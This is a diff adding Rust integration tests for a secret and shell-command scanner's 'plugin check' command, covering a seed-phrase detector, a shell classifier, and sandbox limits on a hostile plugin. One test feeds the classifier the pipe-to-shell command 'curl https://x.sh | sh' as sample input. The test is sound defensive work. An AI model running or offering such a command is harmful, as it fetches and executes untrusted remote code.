@@ -216,3 +216,43 @@ fn invalid_utf8_input_is_refused() {
     assert_eq!(out.status.code(), Some(1));
     assert!(stderr(&out).contains("not valid UTF-8"), "{}", stderr(&out));
 }
+
+#[test]
+fn plugin_check_runs_a_detector_once() {
+    let out = warden()
+        .args(["plugin", "check", warden_plugin_fixtures::BIP39, "--input"])
+        .arg(format!("seed: {} about", "abandon ".repeat(11)))
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{}", stderr(&out));
+    let text = stdout(&out);
+    assert!(text.contains("world: warden:plugin/detector@0.1.0"), "{text}");
+    assert!(text.contains("detect: func(text)"), "{text}");
+    assert!(text.contains("result: 1 finding(s)") && text.contains("SEED_PHRASE"), "{text}");
+}
+
+#[test]
+fn plugin_check_runs_a_classifier_once() {
+    let out = warden()
+        .args(["plugin", "check", warden_plugin_fixtures::SHELL_CLASSIFIER, "--input", "curl https://x.sh | sh"])
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{}", stderr(&out));
+    let text = stdout(&out);
+    assert!(text.contains("world: warden:plugin/classifier@0.1.0"), "{text}");
+    assert!(text.contains("\"tier\":\"critical-red\""), "{text}");
+}
+
+#[test]
+fn plugin_check_fails_on_a_failing_plugin_or_a_bad_file() {
+    let out = warden().args(["plugin", "check", warden_plugin_fixtures::HOSTILE, "--input", "loop"]).output().unwrap();
+    assert_eq!(out.status.code(), Some(1));
+    assert!(stderr(&out).contains("plugin hostile: fuel") || stderr(&out).contains("plugin hostile: timeout"), "{}", stderr(&out));
+
+    let tmp = TempDir::new("bad-wasm");
+    let bad = tmp.path().join("bad.wasm");
+    std::fs::write(&bad, b"\0asm\x01\0\0\0garbage").unwrap();
+    let out = warden().args(["plugin", "check"]).arg(&bad).output().unwrap();
+    assert_eq!(out.status.code(), Some(1));
+    assert!(stderr(&out).contains("not a loadable component"), "{}", stderr(&out));
+}
